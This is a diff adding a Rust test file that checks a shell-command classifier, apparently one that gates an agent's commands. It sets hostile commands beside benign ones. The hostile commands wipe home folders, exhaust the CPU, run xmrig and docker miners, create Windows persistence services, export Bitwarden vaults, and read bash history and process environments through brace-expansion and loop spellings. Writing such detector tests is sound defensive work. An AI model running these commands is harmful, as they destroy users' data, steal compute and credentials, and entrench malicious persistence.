@@ -1,0 +1,80 @@
+//! Destruction of a user's own files, load with no end, miners behind
+//! wrappers and images, Windows services, password-manager exports, and the
+//! shell spellings that hide a command (brace expansion of the command word,
+//! a loop variable in a path): each next to the ordinary use.
+
+use super::tests_support::{attack, flows};
+use super::Effect;
+
+#[test]
+fn deleting_a_users_own_files() {
+    for cmd in [
+        "rm -rf ~/Documents",
+        "7z a -p'x' /tmp/.x.7z ~/Pictures && rm -rf ~/Pictures",
+        "rm -rf ~/Documents/old-notes",
+        "rm -rf ~/work",
+        "rm -rf /home/dev/projects",
+    ] {
+        attack(cmd, Effect::Destroy);
+    }
+    flows("rm -rf ~/work/app/node_modules");
+    flows("rm -f ~/Downloads/setup.zip");
+    flows("rm -rf ~/go/pkg/mod/cache");
+}
+
+#[test]
+fn load_without_end_and_hidden_miners() {
+    attack("stress-ng --cpu 0 --vm 8 --timeout 0 &", Effect::Destroy);
+    attack("stress --cpu 8", Effect::Destroy);
+    attack(
+        "for i in $(seq $(nproc)); do yes > /dev/null & done",
+        Effect::Destroy,
+    );
+    attack(
+        "cpulimit -l 90 -b -- /dev/shm/.x/xmrig -c cfg.json",
+        Effect::Cryptomining,
+    );
+    attack(
+        "docker run -d --restart=always 198.51.100.92:5000/lib/xmr:latest -o pool.mine.example:443",
+        Effect::Cryptomining,
+    );
+    flows("stress-ng --cpu 4 --timeout 60s --metrics-brief");
+    flows("yes | head -n 3");
+    flows("cpulimit -l 50 -- make -j4");
+}
+
+#[test]
+fn windows_services_and_password_manager_exports() {
+    attack(
+        "sc.exe create WinUpdSvc binPath= \"C:\\ProgramData\\wus.exe\" start= auto",
+        Effect::Persistence,
+    );
+    attack(
+        "schtasks /create /sc onlogon /tn Upd /tr C:\\Users\\Public\\u.exe",
+        Effect::Persistence,
+    );
+    flows("sc query WinDefend");
+    attack(
+        "bw export --format json --output /tmp/.vault.json",
+        Effect::CredentialRead,
+    );
+    attack("bw list items --search github", Effect::CredentialRead);
+    flows("bw status");
+    flows("gcloud run services describe web --region europe-west1");
+    attack(
+        "gcloud run deploy web --image gcr.io/acme/web:1",
+        Effect::InfraChange,
+    );
+}
+
+#[test]
+fn commands_hidden_by_shell_spelling() {
+    attack("{cat,/root/.bash_history}", Effect::CredentialRead);
+    attack(
+        "for p in /proc/[0-9]*; do tr '\\0' '\\n' < \"$p/environ\"; done",
+        Effect::CredentialRead,
+    );
+    flows("echo {a,b,c}");
+    flows("for f in src/*.py; do black \"$f\"; done");
+    flows("for d in build dist; do rm -rf \"$d\"; done");
+}
